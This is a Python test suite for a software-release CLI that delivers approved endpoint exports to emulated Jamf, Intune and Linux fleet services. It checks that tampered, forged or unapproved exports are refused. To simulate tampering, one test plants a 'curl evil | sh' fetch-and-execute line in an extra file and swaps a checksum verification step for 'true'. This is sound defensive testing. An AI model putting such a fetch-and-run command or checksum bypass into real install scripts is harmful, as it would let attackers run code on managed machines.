"""`ringward endpoint deliver`: the whole path through the public CLI (request -> approve by another
person -> export -> publish to loopback Jamf Pro, Graph/Intune and Linux fleet emulators), and every
refusal of an export that was not made by the export that consumed its approval, or was changed."""

from __future__ import annotations

import hashlib
import json
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from connectors.providers import intune_graph
from ringward.cli.main import run
from ringward.core.common.checksums import render_checksums
from ringward.core.errors import (
    ApprovalBindingError,
    ApprovalStateError,
    BindingMismatchError,
    ChannelHeldError,
    DigestMismatchError,
    MissingFileError,
    RingwardError,
    UnlistedFileError,
)
from ringward.core.promotion.endpoint_export import export_id_for
from ringward.operations.promotion.endpoint_ops import deliver_endpoint_export
from ringward.store.promotion.channel_repo import ChannelRepository
from tests.connectors.conftest import SECRETS, scan_for_secrets
from tests.connectors.fault_server import Fault, FaultServer, Route
from tests.connectors.graph_emulator import GraphEmulator
from tests.connectors.jamf_emulator import JamfEmulator
from tests.promotion.conftest import ChannelWorld, later

pytestmark = pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)

JAMF_CLIENT = "ringward-api-client"
JAMF_TOKEN = "jamf-bearer-token-promotion-0a1b2c3d"
MANIFEST = "endpoint-management-export-manifest.json"


def cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as exit_info:
        run(list(argv))
    captured = capsys.readouterr()
    return int(exit_info.value.code or 0), captured.out, captured.err


@pytest.fixture(scope="module")
def fleet_server() -> Iterator[FaultServer]:
    server = FaultServer().start()
    yield server
    server.stop()


@pytest.fixture
def fleet(fleet_server: FaultServer) -> Route:
    return fleet_server.route("/fleet/publications")


@pytest.fixture
def secrets_env(monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    for name in ("RW_JAMF_SECRET", "RW_INTUNE_SECRET", "RW_LINUX_TOKEN"):
        monkeypatch.setenv(name, SECRETS[name])
    monkeypatch.setattr(intune_graph, "SLEEP", lambda seconds: None)
    return SECRETS


@pytest.fixture
def jamf(secrets_env: dict[str, str]) -> Iterator[JamfEmulator]:
    emulator = JamfEmulator(client_id=JAMF_CLIENT, client_secret=secrets_env["RW_JAMF_SECRET"],
                            token=JAMF_TOKEN).start()
    yield emulator
    emulator.stop()


@pytest.fixture
def graph(secrets_env: dict[str, str]) -> Iterator[GraphEmulator]:
    emulator = GraphEmulator().start()
    yield emulator
    emulator.stop()


def write_config(path: Path, *providers: dict[str, Any]) -> Path:
    path.write_text(yaml.safe_dump({"defaults": {"backoff_base_seconds": 0.01, "timeout_seconds": 5.0},
                                    "providers": list(providers)}, sort_keys=False))
    return path


def linux_destination(route: Route) -> dict[str, Any]:
    return {"name": "linux-fleet", "provider": "linux", "url": route.url, "token": "env:RW_LINUX_TOKEN"}


# --- the whole path through the CLI ------------------------------------------------------------------------


def test_request_approve_export_deliver_through_the_cli(
    channel_world: ChannelWorld, capsys: pytest.CaptureFixture[str], jamf: JamfEmulator, graph: GraphEmulator,
    fleet: Route,
) -> None:
    keys = channel_world.keys
    code, out, err = cli(capsys, "channel", "request-promotion", str(channel_world.package), "--channel", "stable",
                         "--target-ring", "enterprise", "--requester", "alice", "--signing-key",
                         str(keys.promotion_pem), "--trust-root", str(keys.trust_root), "--json")
    assert code == 0, err
    requested = json.loads(out)
    approval_id = requested["approval_id"]

    # the requester may not approve; another person does
    code, _, err = cli(capsys, "approval", "approve", approval_id, "--actor", "alice", "--reason", "mine")
    assert code == 1 and "cannot approve" in err and len(err.strip().splitlines()) == 1
    code, out, err = cli(capsys, "approval", "approve", approval_id, "--actor", "bob", "--reason", "CAB-991")
    assert code == 0 and "approved" in out, err

    export_dir = channel_world.work / "export"
    request_file = Path(requested["output_dir"]) / "release-channel-promotion-request.json"
    code, out, err = cli(capsys, "endpoint", "export", str(channel_world.package), "--channel", "stable",
                         "--provider", "all", "--promotion-request", str(request_file), "--trust-root",
                         str(keys.trust_root), "--actor", "carol", "--output", str(export_dir), "--json")
    assert code == 0, err
    exported = json.loads(out)

    config = write_config(
        channel_world.work / "connectors.yaml",
        {"name": "jamf-prod", "provider": "jamf", "url": jamf.url, "client_id": JAMF_CLIENT,
         "client_secret": "env:RW_JAMF_SECRET"},
        {"name": "intune-prod", "provider": "intune", "url": graph.base, "client_id": "ringward-graph-app",
         "client_secret": "env:RW_INTUNE_SECRET", "token_url": graph.token_url},
        linux_destination(fleet),
    )
    code, out, err = cli(capsys, "endpoint", "deliver", str(export_dir / MANIFEST), "--config", str(config),
                         "--actor", "carol", "--json")
    assert code == 0, (out, err)
    result = json.loads(out)
    publication_id = "emp_" + hashlib.sha256(
        f"{exported['export_id']}:stable:1.2.3:intune,jamf,linux".encode()).hexdigest()[:12]
    assert result["success"] and result["publication_id"] == publication_id
    assert {r["destination"]: r["status"] for r in result["deliveries"]} == {
        "jamf-prod": "delivered", "intune-prod": "delivered", "linux-fleet": "delivered"}

    # Jamf got exactly the exported package bytes, a script and a (review-mode) policy
    jamf_policy = json.loads((export_dir / "jamf-policy.json").read_bytes())
    (uploads,) = jamf.state.uploads.values()
    assert [data for _, data in uploads] == [(export_dir / "jamf" / jamf_policy["package"]["artifact"]).read_bytes()]
    assert len(jamf.state.scripts) == 1 and len(jamf.state.policies) == 1
    # Intune: one win32LobApp for the release, content committed
    (app,) = graph.apps.values()
    assert app["displayName"] == "Ringward rt stable 1.2.3" and app["committedContentVersion"]
    # the Linux fleet endpoint got the manifest and the script, keyed by the publication id
    (received,) = fleet.successes
    body = json.loads(received.body)
    assert received.headers["idempotency-key"] == publication_id
    assert body["payload"]["schema_version"] == "cavra.endpoint-management.linux.v1"
    assert body["payload"]["install_script_content"] == (export_dir / "linux-install-rt.sh").read_text()

    (record,) = channel_world.records("endpoint-management-publication-delivery")
    assert record.subject.status == "delivered" and record.subject.success is True
    assert record.payload["publication_id"] == publication_id and record.payload["export_id"] == exported["export_id"]
    assert record.payload["approval_id"] == approval_id and record.payload["failed_providers"] == []
    assert record.payload["session_id"].startswith(f"epd-{publication_id.replace('_', '-')}-")
    delivery = channel_world.store.get_evidence(record.payload["delivery_evidence"])
    assert delivery.kind == "release-connector-delivery" and delivery.payload["event_id"] == publication_id
    kinds = [r.kind for r in channel_world.records("approval-request")] + \
            [r.kind for r in channel_world.records("release-channel-promotion-request")]
    assert kinds == ["approval-request", "release-channel-promotion-request"]
    assert scan_for_secrets(channel_world.store, SECRETS) == []
    code, out, err = cli(capsys, "evidence", "verify", "--json")
    assert code == 0 and json.loads(out)["ok"], err


# --- refusals -------------------------------------------------------------------------------------------------


@pytest.fixture
def linux_export(channel_world: ChannelWorld) -> tuple[dict[str, Any], dict[str, Any], Path]:
    requested, exported = channel_world.promote(provider="linux", output=channel_world.work / "export")
    return requested, exported, Path(exported["output_dir"])


def deliver(world: ChannelWorld, manifest: Path, route: Route, **kwargs: Any) -> dict[str, Any]:
    config = write_config(world.work / f"c-{len(list(world.work.iterdir()))}.yaml", linux_destination(route))
    return deliver_endpoint_export(world.store, manifest_path=manifest, config_path=config, actor="carol",
                                   now=later(1), **kwargs)


def refused(world: ChannelWorld, manifest: Path, route: Route, error: type[RingwardError],
            match: str | None = None) -> None:
    with pytest.raises(error, match=match):
        deliver(world, manifest, route)
    assert route.requests == []
    latest = world.records("endpoint-management-publication-delivery")[0]
    assert latest.subject.status == "refused" and latest.payload["error"]["type"] == error.__name__


def rechecksum(export: Path) -> None:
    """What a forger does after editing: a consistent checksums.txt for the changed files."""
    digests = {p.relative_to(export).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
               for p in export.rglob("*") if p.is_file() and p.name != "checksums.txt"}
    (export / "checksums.txt").write_bytes(render_checksums(digests))


def test_a_tampered_export_is_refused(
    channel_world: ChannelWorld, linux_export: tuple[dict[str, Any], dict[str, Any], Path], secrets_env: object,
    fleet: Route,
) -> None:
    _, _, export = linux_export
    original = (export / "linux-install-rt.sh").read_bytes()
    (export / "linux-install-rt.sh").write_bytes(original.replace(b"sha256sum -c -", b"true"))
    refused(channel_world, export / MANIFEST, fleet, DigestMismatchError, "linux-install-rt.sh")
    rechecksum(export)  # consistent again, but not what was exported and recorded
    refused(channel_world, export / MANIFEST, fleet, BindingMismatchError, "the export was changed")
    (export / "linux-install-rt.sh").write_bytes(original)
    rechecksum(export)
    (export / "extra.sh").write_text("curl evil | sh\n")
    refused(channel_world, export / MANIFEST, fleet, UnlistedFileError, "extra.sh")
    (export / "extra.sh").unlink()
    (export / "linux-fleet-manifest.json").unlink()
    refused(channel_world, export / MANIFEST, fleet, MissingFileError, "linux-fleet-manifest.json")


def test_a_hand_made_export_whose_approval_it_did_not_consume_is_refused(
    channel_world: ChannelWorld, linux_export: tuple[dict[str, Any], dict[str, Any], Path], secrets_env: object,
    fleet: Route,
) -> None:
    requested, exported, export = linux_export

    def forge(name: str, change: Any) -> Path:
        copy = channel_world.work / name
        shutil.copytree(export, copy)
        manifest = json.loads((copy / MANIFEST).read_bytes())
        change(manifest)
        (copy / MANIFEST).write_text(json.dumps(manifest))
        rechecksum(copy)
        return copy / MANIFEST

    # an approval nobody consumed (approved, never exported)
    pending = channel_world.request(ring="broad", output=channel_world.work / "other-request", at=later(0.5))
    channel_world.approve(pending["approval_id"], at=later(0.6))

    def unconsumed(manifest: dict[str, Any]) -> None:
        manifest["approval"].update(approval_id=pending["approval_id"], request_id=pending["request_id"])
        manifest["target_ring"] = "broad"
        manifest["export_id"] = export_id_for("stable", "1.2.3", ["linux"], pending["approval_id"])

    refused(channel_world, forge("unconsumed", unconsumed), fleet, ApprovalStateError, "not consumed")

    # the right approval, but a different export (another provider set) than the one that consumed it
    def other_export(manifest: dict[str, Any]) -> None:
        manifest["providers"][0]["provider"] = "linux"
        manifest["providers"].append({**manifest["providers"][0], "provider": "jamf", "file": "jamf-policy.json",
                                      "files": []})
        manifest["export_id"] = export_id_for("stable", "1.2.3", ["jamf", "linux"], requested["approval_id"])

    forged = forge("other-export", other_export)
    (forged.parent / "jamf-policy.json").write_text("{}")
    rechecksum(forged.parent)
    refused(channel_world, forged, fleet, ApprovalBindingError, "not by export eme_")

    # an export id that does not follow from its own fields
    refused(channel_world, forge("bad-id", lambda m: m.update(export_id="eme_000000000000")), fleet,
            BindingMismatchError, "export_id")
    # the genuine export still publishes
    assert deliver(channel_world, export / MANIFEST, fleet)["success"]
    assert exported["export_id"] in {r.payload["export_id"] for r in
                                     channel_world.records("endpoint-management-publication-delivery",
                                                           status="delivered")}


def test_a_held_channel_is_not_published(
    channel_world: ChannelWorld, linux_export: tuple[dict[str, Any], dict[str, Any], Path], secrets_env: object,
    fleet: Route,
) -> None:
    _, _, export = linux_export
    ChannelRepository(channel_world.store).hold("stable", actor="sec", reason="INC-11", now=later(0.9))
    refused(channel_world, export / MANIFEST, fleet, ChannelHeldError, "INC-11")


def test_a_failed_delivery_is_recorded_and_exits_1(
    channel_world: ChannelWorld, linux_export: tuple[dict[str, Any], dict[str, Any], Path], secrets_env: object,
    fleet: Route, capsys: pytest.CaptureFixture[str],
) -> None:
    _, exported, export = linux_export
    fleet.script(Fault.of(400, "bad manifest"), default=400)
    config = write_config(channel_world.work / "linux.yaml", linux_destination(fleet))
    code, out, _ = cli(capsys, "endpoint", "deliver", str(export / MANIFEST), "--config", str(config))
    assert code == 1 and "FAILED" in out
    (record,) = channel_world.records("endpoint-management-publication-delivery")
    assert record.subject.status == "failed" and record.subject.success is False
    assert record.payload["failed_providers"] == ["linux-fleet"] and record.payload["blocked_count"] == 1
    assert record.payload["export_id"] == exported["export_id"]


def test_deliver_bad_input_exits_2(
    channel_world: ChannelWorld, linux_export: tuple[dict[str, Any], dict[str, Any], Path], secrets_env: object,
    fleet: Route, capsys: pytest.CaptureFixture[str],
) -> None:
    _, _, export = linux_export
    config = write_config(channel_world.work / "linux.yaml", linux_destination(fleet))
    cases = [
        ([str(export / "nope.json"), "--config", str(config)], "file not found"),
        ([str(export), "--config", str(config)], "is a directory"),
        ([str(export / MANIFEST), "--config", str(channel_world.work / "none.yaml")], "file not found"),
        ([str(export / MANIFEST), "--config", str(config), "--provider", "intune"], "not present in endpoint export"),
        ([str(export / MANIFEST), "--config", str(config), "--provider", "sccm"], "unsupported"),
    ]
    for argv, needle in cases:
        code, _, err = cli(capsys, "endpoint", "deliver", *argv)
        assert code == 2 and needle in err and len(err.strip().splitlines()) == 1, err
    jamf_only = write_config(channel_world.work / "jamf.yaml",
                             {"name": "jamf-prod", "provider": "jamf", "url": "https://jamf.example.com",
                              "client_id": JAMF_CLIENT, "client_secret": "env:RW_JAMF_SECRET"})
    code, _, err = cli(capsys, "endpoint", "deliver", str(export / MANIFEST), "--config", str(jamf_only))
    assert code == 2 and "no enabled destination" in err
    assert fleet.requests == []
    assert channel_world.records("endpoint-management-publication-delivery") == []
